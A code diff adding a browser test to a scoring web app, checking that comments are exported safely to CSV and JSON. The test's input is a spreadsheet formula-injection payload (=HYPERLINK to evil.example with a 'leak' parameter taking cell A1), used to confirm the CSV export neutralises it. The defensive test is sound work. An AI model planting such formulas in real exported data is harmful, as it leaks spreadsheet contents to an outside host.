@@ -503,3 +503,21 @@ it('ties each score option to its level descriptor, and shows the descriptors be
 	expect([...errors, ...typed.errors]).toEqual([]);
 	await context.close();
 }, 60_000);
+
+it('exports a comment a spreadsheet would run as a formula as text in the CSV, and as typed in the JSON', async () => {
+	const context = await browser.newContext({ acceptDownloads: true });
+	const { page, errors } = await openPage(context, packetUrl);
+	const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+	await field(page, 1, 1).getByRole('radio', { name: '4.5' }).click();
+	await field(page, 1, 1).getByRole('textbox').fill(formula);
+	page.on('dialog', (dialog) => void dialog.accept()); // only 1 of 3 entries complete
+	const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export as CSV' }).click()]);
+	const text = readFileSync(await csv.path(), 'utf8');
+	expect(text).toBe(`judge,entry,criterion,score,comment\nana-lyst,quarry-planning,impact,4.5,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"\n`);
+	const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
+	const parsed = parsePacketExport(readFileSync(await json.path(), 'utf8'));
+	if (!parsed.ok) throw new Error(parsed.error);
+	expect(parsed.value.scores).toEqual([{ entry: 'quarry-planning', criterion: 'impact', score: 4.5, comment: formula }]);
+	expect(errors).toEqual([]);
+	await context.close();
+}, 60_000);
